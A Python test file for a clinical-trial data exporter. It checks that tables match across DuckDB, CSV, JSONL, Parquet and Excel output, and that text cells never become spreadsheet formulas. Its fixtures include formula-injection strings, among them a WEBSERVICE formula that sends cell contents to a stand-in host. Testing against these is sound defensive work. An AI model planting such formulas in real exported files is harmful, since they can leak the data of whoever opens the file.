"""Files of tables: complete or absent, safe in a spreadsheet, and the same in every format."""

import csv
import json
import os
import subprocess
import sys
import tomllib
import zipfile
from importlib.metadata import version
from pathlib import Path

import duckdb
import openpyxl
import pytest

from extractor.apps.export import (
    Destination,
    Format,
    choose_tables,
    excel,
    export_run,
    list_tables,
    neutralise,
)
from extractor.errors import ArgumentError, StoreError

from .samples import SMALL


@pytest.fixture
def run(tmp_path):
    folder = tmp_path / "a run [1]"
    folder.mkdir()
    lines = [
        SMALL.model_copy(update={"record_id": f"NCT9000000{n}"}).model_dump_json()
        + "\n"
        for n in range(1, 4)
    ]
    (folder / "extractions.jsonl").write_text("".join(lines), "utf-8")
    return folder


def read_csv(path, encoding="utf-8"):
    with path.open(encoding=encoding, newline="") as file:
        return list(csv.DictReader(file))


def export(run, to, format_=None, tables=(), **options):
    return export_run(run, Destination.choose(to, format_, **options), tables)


def test_a_database_holds_all_tables_with_types_and_meanings(run, tmp_path):
    counts = export(run, tmp_path / "it's.duckdb")
    with duckdb.connect(str(tmp_path / "it's.duckdb"), read_only=True) as database:
        for table in list_tables():
            (rows,) = database.execute(f"SELECT count(*) FROM {table.name}").fetchone()
            assert rows == counts[table.name]
        kinds = dict(
            database.execute(
                "SELECT column_name, data_type FROM duckdb_columns()"
            ).fetchall()
        )
        names = ("value", "criterion_index", "healthy_volunteers")
        assert [kinds[name] for name in names] == ["DOUBLE", "BIGINT", "BOOLEAN"]
        said = (
            "SELECT comment FROM duckdb_columns() WHERE table_name = 'evidence' AND "
            "column_name = 'quote'"
        )
        assert database.execute(said).fetchone() == ("The characters themselves.",)
        ids = database.execute("SELECT record_id FROM records").fetchall()
    assert ids == [("NCT90000001",), ("NCT90000002",), ("NCT90000003",)]


@pytest.fixture
def limits(run, tmp_path):
    """The table of limits by its format: the rows, with the values of the format's own types."""
    for format_ in (Format.CSV, Format.JSONL, Format.PARQUET):
        export(run, tmp_path / format_, format_)
    lines = (tmp_path / "jsonl" / "constraints.jsonl").read_text("utf-8").splitlines()
    cells = read_csv(tmp_path / "csv" / "constraints.csv")
    parquet = duckdb.sql(
        f"SELECT * FROM read_parquet('{tmp_path}/parquet/constraints.parquet')"
    )
    return {
        "jsonl": [tuple(json.loads(line).values()) for line in lines],
        "csv": [tuple(row.values()) for row in cells],
        "parquet": parquet.fetchall(),
    }


def write_cell(value):
    """A value as a cell of CSV has it."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def test_all_formats_hold_the_same(limits):
    rows = limits["jsonl"]
    assert len(rows) == 6
    assert limits["parquet"] == rows
    assert limits["csv"] == [tuple(map(write_cell, row)) for row in rows]


def test_a_file_holds_one_table(run, tmp_path):
    export(run, tmp_path / "limits.csv", tables=choose_tables([], ["constraints"]))
    assert len(read_csv(tmp_path / "limits.csv")) == 6
    with pytest.raises(ValueError, match="holds one table"):
        export(run, tmp_path / "all.csv")
    assert not (tmp_path / "all.csv").exists()


FORMULAS = (
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "'=1",
    '"=1',
    "＝1",
)
WITHIN = ("a;=1", "a\n-1", "a,@x", "a\t+1")


@pytest.mark.parametrize("text", [*FORMULAS, *WITHIN])
def test_no_program_reads_a_text_as_a_formula(text):
    safe = neutralise(text)
    assert safe.replace("'", "") == text.replace("'", "")
    for separator in (";", "\t"):
        for row in csv.reader(
            safe.splitlines() or [""], delimiter=separator, quoting=csv.QUOTE_NONE
        ):
            for cell in row:
                assert not cell.strip(' "\t\r\n').startswith(tuple("=+-@＝＋－＠")), (
                    separator,
                    cell,
                )


@pytest.mark.parametrize(
    "text",
    [
        "18-65 years",
        "ECOG 0-2",
        "> 3 x ULN",
        "a = b",
        "day -7, -5 and -3",
        "IL-2",
        "",
        "β-lactam",
    ],
)
def test_other_texts_do_not_change(text):
    assert neutralise(text) == text


def test_csv_is_safe_in_a_spreadsheet_and_always_the_same(run, tmp_path):
    for name in ("first", "second"):
        export(run, tmp_path / name, Format.CSV)
    # a number stays one
    assert read_csv(tmp_path / "first" / "constraints.csv")[0]["value"] == "-2.5"
    assert read_csv(tmp_path / "first" / "criteria.csv")[0]["quote"] == "'=HYPERLINK(1)"
    assert (
        read_csv(tmp_path / "first" / "endpoints.csv")[0]["measure"] == "Pain at rest"
    )
    for path in (tmp_path / "first").iterdir():
        assert path.read_bytes() == (tmp_path / "second" / path.name).read_bytes()


REPLACED = pytest.mark.parametrize(
    ("name", "format_"), [("t.duckdb", None), ("t", Format.CSV), ("t", Format.PARQUET)]
)


@REPLACED
def test_an_earlier_export_is_replaced_only_on_demand(run, tmp_path, name, format_):
    to = tmp_path / name
    export(run, to, format_)

    with pytest.raises(ArgumentError, match="--force"):
        export(run, to, format_)

    assert export(run, to, format_, force=True)["records"] == 3


@REPLACED
def test_an_earlier_export_is_kept_by_a_failure(run, tmp_path, name, format_):
    to = tmp_path / name
    export(run, to, format_)
    files = [to] if to.is_file() else sorted(to.iterdir())
    contents = [path.read_bytes() for path in files]
    listed = sorted(path.name for path in tmp_path.iterdir())
    with (run / "extractions.jsonl").open("a") as file:
        file.write('{"record_id": "torn')

    with pytest.raises(StoreError, match="line 4: is broken"):
        export(run, to, format_, force=True)

    assert [path.read_bytes() for path in files] == contents
    assert sorted(path.name for path in tmp_path.iterdir()) == listed


def test_a_folder_of_other_files_is_never_replaced(run, tmp_path):
    other = tmp_path / "mine"
    other.mkdir()
    (other / "thesis.csv").write_text("precious")

    with pytest.raises(StoreError, match="holds other files"):
        export(run, other, Format.CSV, force=True)

    assert (other / "thesis.csv").read_text() == "precious"


@pytest.mark.parametrize(
    ("name", "format_", "message"),
    [
        ("t", None, "say --format"),
        ("t", Format.DUCKDB, "one file"),
        ("t.csv", Format.PARQUET, "named as csv"),
    ],
)
def test_a_path_and_a_format_must_fit(tmp_path, name, format_, message):
    with pytest.raises(ValueError, match=message):
        Destination.choose(tmp_path / name, format_)


def test_gold_is_read_file_by_file_and_a_broken_one_is_named(tmp_path):
    with pytest.raises(StoreError, match="holds no results"):
        export(tmp_path, tmp_path / "t.duckdb")
    gold = tmp_path / "gold"
    gold.mkdir()
    for number in (2, 1):
        annotated = SMALL.model_copy(
            update={"record_id": f"NCT9000000{number}"}
        ).model_dump(mode="json")
        (gold / f"NCT9000000{number}.json").write_text(
            json.dumps(annotated, indent=1), "utf-8"
        )
    assert export(gold, tmp_path / "t", Format.CSV)["records"] == 2
    assert [row["record_id"] for row in read_csv(tmp_path / "t" / "records.csv")] == [
        "NCT90000001",
        "NCT90000002",
    ]
    assert (
        export(gold / "NCT90000001.json", tmp_path / "one", Format.CSV)["records"] == 1
    )
    (gold / "NCT90000003.json").write_text("{", "utf-8")
    with pytest.raises(StoreError, match=r"NCT90000003\.json: is broken; correct it"):
        export(gold, tmp_path / "t", Format.CSV, force=True)


def test_a_workbook_has_a_sheet_for_each_table_and_no_formula(run, tmp_path):
    counts = export(run, tmp_path / "trials.xlsx")
    export(run, tmp_path / "rows", Format.JSONL)

    book = openpyxl.load_workbook(tmp_path / "trials.xlsx")

    assert book.sheetnames == [table.name for table in list_tables()]
    for name, count in counts.items():
        lines = (tmp_path / "rows" / f"{name}.jsonl").read_text("utf-8").splitlines()
        header, *rows = book[name].iter_rows(values_only=True)
        assert len(rows) == count
        objects = [dict(zip(header, row, strict=True)) for row in rows]
        assert objects == [json.loads(line) for line in lines]
        for row in book[name].iter_rows():
            assert {cell.data_type for cell in row} <= {"s", "n", "b"}


ARRAYS = ['{=WEBSERVICE("http://a.b/"&A1)}', "{=1+1}", "{=1", "{}", "internal:A1"]


@pytest.mark.parametrize(
    "text", [*FORMULAS, *WITHIN, *ARRAYS, "http://a.b", "12", "nan", "TRUE"]
)
def test_a_text_in_a_workbook_stays_as_it_is(text, tmp_path):
    table = choose_tables([], ["custom_values"])[0]
    (tmp_path / "rows").write_text(
        json.dumps({column.name: text for column in table.columns}) + "\n", "utf-8"
    )

    excel.write_workbook(tmp_path / "a.xlsx", [table], {table.name: tmp_path / "rows"})

    cell = openpyxl.load_workbook(tmp_path / "a.xlsx")[table.name]["A2"]
    assert cell.value.replace("_x000D_", "\r") == text
    assert cell.data_type == "s"
    assert cell.hyperlink is None


@pytest.fixture(scope="module")
def oldest_library(tmp_path_factory):
    """The folder of the oldest XlsxWriter that the extra ``excel`` allows; None if it is the
    installed one.
    """
    extras = tomllib.loads(Path("pyproject.toml").read_text("utf-8"))["project"][
        "optional-dependencies"
    ]
    [needed] = [
        requirement
        for requirement in extras["excel"]
        if requirement.startswith("xlsxwriter")
    ]
    oldest = needed.removeprefix("xlsxwriter>=")
    if version("xlsxwriter") == oldest:
        return None
    folder = tmp_path_factory.mktemp("oldest")
    words = (
        "-m",
        "pip",
        "install",
        "--quiet",
        "--no-deps",
        "--target",
        folder,
        f"xlsxwriter=={oldest}",
    )
    if subprocess.run(
        [sys.executable, *words], capture_output=True, check=False
    ).returncode:
        pytest.skip(f"no registry has XlsxWriter {oldest}")
    return folder


def test_a_row_of_limits_has_canonical_names_and_units(limits):
    row = limits["jsonl"][1]
    assert row[9:-3] == (
        "ecog_performance_status",
        False,
        "89247-1",
        "{score}",
        "{score}",
        0,
        2,
        None,
        None,
        "between",
    )
    # it holds for all, and these values have no evidence
    assert row[-3:] == (None, None, None)


def test_the_keys_of_a_table_are_described_beside_it(run, tmp_path):
    export(run, tmp_path / "csv", Format.CSV)

    described = json.loads((tmp_path / "csv" / "tables.json").read_text("utf-8"))

    assert described["constraints"]["keys"] == [
        "record_id",
        "criterion_index",
        "constraint_index",
    ]


@pytest.mark.slow
def test_the_oldest_library_that_is_allowed_writes_no_formula_either(
    run, tmp_path, oldest_library
):
    lines = (run / "extractions.jsonl").read_text("utf-8")
    quoted = json.dumps(ARRAYS[0])[1:-1]
    (run / "extractions.jsonl").write_text(
        lines.replace("NCT90000001", quoted), "utf-8"
    )
    to = tmp_path / "a.xlsx"
    code = (
        "import sys; from pathlib import Path; from extractor.apps.export import Destination, "
        "Format, export_run;"
        "export_run(Path(sys.argv[1]), Destination.choose(Path(sys.argv[2]), Format.XLSX))"
    )
    paths = [path for path in sys.path if path]
    if oldest_library:
        paths.insert(0, str(oldest_library))

    subprocess.run(
        [sys.executable, "-c", code, run, to],
        env=os.environ | {"PYTHONPATH": os.pathsep.join(paths)},
        check=True,
    )

    book = openpyxl.load_workbook(to)
    assert book["records"]["A2"].value == ARRAYS[0]
    for sheet in book:
        for row in sheet.iter_rows():
            assert {cell.data_type for cell in row} <= {"s", "n", "b"}
    with zipfile.ZipFile(to) as parts:
        for name in parts.namelist():
            if "sheets" in name:
                assert b"<f" not in parts.read(name)


def test_the_library_never_guesses_what_a_cell_is(run, tmp_path, monkeypatch):
    """Earlier versions take some texts for formulas, whatever their options say."""

    def refuse(*_):
        raise AssertionError("it guesses")

    for name in ("write", "write_row", "write_column"):
        monkeypatch.setattr(f"xlsxwriter.worksheet.Worksheet.{name}", refuse)
    assert export(run, tmp_path / "trials.xlsx")["records"] == 3


def test_a_table_that_no_sheet_holds_is_refused(run, tmp_path, monkeypatch):
    monkeypatch.setattr(excel, "_MOST_ROWS", 6)
    for names, remedy in (
        (["constraints"], "name a file that ends with .csv"),
        (["constraints", "regimens"], "the other tables with --tables"),
    ):
        with pytest.raises(StoreError, match=f"constraints: has more.*{remedy}"):
            export(run, tmp_path / "trials.xlsx", tables=choose_tables([], names))
    monkeypatch.setattr(excel, "_LONGEST_TEXT", 5)

    with pytest.raises(
        StoreError, match=r"criteria: row 1, record_id: has more than 5 characters"
    ):
        export(run, tmp_path / "trials.xlsx", tables=choose_tables([], ["criteria"]))

    assert not (tmp_path / "trials.xlsx").exists()
